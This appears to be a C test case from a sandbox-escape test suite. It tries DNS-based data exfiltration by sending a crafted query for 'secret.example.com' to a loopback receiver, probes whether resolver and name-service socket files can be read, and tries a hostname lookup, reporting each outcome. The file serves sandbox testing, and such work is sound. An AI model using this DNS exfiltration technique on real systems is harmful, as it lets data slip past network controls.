// Tries: carries data out by questions to name servers, through the C library and by hand
// Control: yes
#include "attack.h"
#include <netdb.h>
#include <netinet/in.h>
#include <resolv.h>
#include <sys/socket.h>

int main(void)
{
    unsigned char answer[512];
    /* The judge's receiver is the name server: one question, not waited for. */
    struct sockaddr_in server = {.sin_family = AF_INET, .sin_port = htons((uint16_t)canary_number("udp"))};
    server.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    res_init();
    _res.nscount = 1;
    _res.nsaddr_list[0] = server;
    _res.retry = 1;
    _res.retrans = 1;
    int question = res_mkquery(QUERY, "secret.example.com", 1, 1, NULL, 0, NULL, answer, sizeof answer);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd >= 0 && sendto(fd, answer, (size_t)question, 0, (void *)&server, sizeof server) == question)
        escaped("a question was sent");
    else
        refused("a question");
    static const char *const servers[] = {"/etc/resolv.conf", "/run/systemd/resolve/io.systemd.Resolve",
                                          "/run/nscd/socket"};
    for (size_t i = 0; i < sizeof servers / sizeof *servers; i++)
        if (access(servers[i], R_OK) == 0 && fopen(servers[i], "r") != NULL)
            escaped("%s can be read", servers[i]);
    struct addrinfo *found = NULL, hints = {.ai_family = AF_INET};
    if (fd < 0 && getaddrinfo("example.com", "80", &hints, &found) == 0)
        escaped("example.com was found");
    else
        held("example.com");
}
